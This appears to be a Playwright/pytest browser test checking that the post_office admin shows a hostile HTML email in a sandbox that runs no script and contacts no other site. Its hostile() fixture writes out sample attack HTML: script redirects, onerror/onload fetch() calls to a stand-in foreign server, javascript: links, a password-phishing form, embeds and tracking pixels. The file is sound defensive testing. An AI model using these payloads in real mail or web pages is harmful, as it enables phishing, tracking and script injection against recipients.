"""A mail by somebody who means harm runs nothing and reaches nothing, wherever it is looked at."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect

from post_office import mail
from tests.browser.conftest import OpenPage

# What the sandbox forbids is told in the console, and requests that are never made count as such there.
FORBIDDEN = {
    "Content Security Policy|sandboxed|Blocked|net::ERR_BLOCKED": "it is what this is about",
    "foreign request: http://localhost": "the other site itself says what reaches it",
}


class OtherSite(ThreadingHTTPServer):
    """A site of somebody else, on another name of this host; it knows what was asked of it."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Asked)
        self.asked: list[str] = []
        self.url = f"http://localhost:{self.server_address[1]}"


class Asked(BaseHTTPRequestHandler):
    server: OtherSite

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def other_site() -> Iterator[OtherSite]:
    with OtherSite() as site:
        thread = threading.Thread(target=site.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield site
        site.shutdown()
        thread.join()


def hostile(site: str) -> str:
    return f"""<html><head>
<meta http-equiv="refresh" content="0; url={site}/refresh">
<base href="{site}/base/">
<link rel="stylesheet" href="{site}/style.css">
<link rel="prefetch" href="{site}/prefetch">
<style>@import url({site}/imported.css); body {{ background: url({site}/background.png) }}</style>
<script>top.location = "{site}/script"; parent.document.title = "taken"</script>
<script src="{site}/script.js"></script></head>
<body onload="parent.document.title = 'taken'">
<h1>Dear customer</h1>
<img src="{site}/pixel.gif" onerror="parent.document.title = 'taken'">
<img src="/nothing" onerror="fetch('{site}/error')">
<svg onload="fetch('{site}/svg')"></svg>
<iframe src="{site}/frame"></iframe>
<object data="{site}/object"></object><embed src="{site}/embed">
<a id="script" href="javascript:parent.document.title = 'taken'">Click me</a>
<a id="top" href="{site}/top" target="_top">Me, too</a>
<form action="{site}/form" method="post"><input name="password" autofocus>
<button id="send">Log in</button></form>
</body></html>"""


@pytest.fixture
def victim(open_page: OpenPage, other_site: OtherSite) -> Page:
    email = mail.send(
        "ann@example.com", "evil@example.com", subject="Hello", html_message=hostile(other_site.url)
    )
    return open_page(f"/admin/post_office/email/{email.pk}/change/", expected=FORBIDDEN)


def test_it_runs_nothing_and_reaches_nothing(victim: Page, other_site: OtherSite) -> None:
    title, address = victim.title(), victim.url
    frame = victim.frame_locator("#email-html")
    expect(frame.locator("h1")).to_be_visible()
    for link in ("#script", "#top", "#send"):
        frame.locator(link).click(no_wait_after=True)
    victim.wait_for_timeout(500)
    expect(frame.locator("h1")).to_have_text("Dear customer")
    assert (victim.title(), victim.url.partition("#")[0]) == (title, address.partition("#")[0])
    assert other_site.asked == []


def test_nor_in_a_window_of_its_own(victim: Page, other_site: OtherSite) -> None:
    with victim.expect_popup() as opened:
        victim.locator("#email-html-window").click()
    window = opened.value
    expect(window.locator("h1")).to_be_visible()
    window.locator("#script").click(no_wait_after=True)
    window.locator("#send").click(no_wait_after=True)
    window.wait_for_timeout(300)
    assert window.title() != "taken"
    assert window.evaluate("self.origin") == "null"
    assert other_site.asked == []


def test_its_images_are_loaded_when_somebody_asks_for_them(victim: Page, other_site: OtherSite) -> None:
    expect(victim.frame_locator("#email-html").locator("h1")).to_be_visible()
    assert other_site.asked == []
    victim.get_by_role("link", name="Load images of other sites").click()
    for _wait in range(100):
        if other_site.asked:
            break
        victim.wait_for_timeout(20)
    victim.wait_for_timeout(200)
    assert "/pixel.gif" in other_site.asked
    # What is fetched ahead, and never shown, may come from where anything may come from (CSP level 3).
    assert set(other_site.asked) <= {"/pixel.gif", "/background.png", "/nothing", "/prefetch"}
